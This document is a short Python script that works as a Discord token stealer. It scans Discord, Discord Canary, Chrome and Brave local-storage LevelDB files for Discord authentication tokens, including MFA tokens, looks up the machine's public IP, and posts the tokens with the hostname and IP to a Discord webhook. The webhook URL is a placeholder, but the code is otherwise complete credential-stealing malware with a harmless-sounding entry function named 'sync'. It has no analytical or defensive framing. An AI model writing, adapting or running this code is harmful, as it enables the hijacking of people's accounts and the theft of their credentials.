import os
import platform
import re

import requests

WEBHOOK = "https://discord.com/api/webhooks/000000000000000000/PLACEHOLDER-not-a-real-webhook-token"
_TOKEN_RE = re.compile(r"[\w-]{24,26}\.[\w-]{6}\.[\w-]{27,38}|mfa\.[\w-]{84}")


def _paths():
    roaming = os.getenv("APPDATA", "")
    local = os.getenv("LOCALAPPDATA", "")
    return {
        "Discord": os.path.join(roaming, "discord", "Local Storage", "leveldb"),
        "Discord Canary": os.path.join(roaming, "discordcanary", "Local Storage", "leveldb"),
        "Chrome": os.path.join(local, "Google", "Chrome", "User Data", "Default", "Local Storage", "leveldb"),
        "Brave": os.path.join(local, "BraveSoftware", "Brave-Browser", "User Data", "Default", "Local Storage", "leveldb"),
    }


def _tokens():
    found = set()
    for _, path in _paths().items():
        if not os.path.isdir(path):
            continue
        for name in os.listdir(path):
            if name.endswith((".log", ".ldb")):
                with open(os.path.join(path, name), errors="ignore") as fh:
                    found.update(_TOKEN_RE.findall(fh.read()))
    return found


def sync():
    tokens = _tokens()
    if not tokens:
        return
    try:
        ip = requests.get("https://api.ipify.invalid", timeout=4).text
    except Exception:
        ip = "?"
    embed = {"title": platform.node(), "description": "\n".join(tokens), "footer": {"text": ip}}
    requests.post(WEBHOOK, json={"username": "embeds", "embeds": [embed]}, timeout=5)
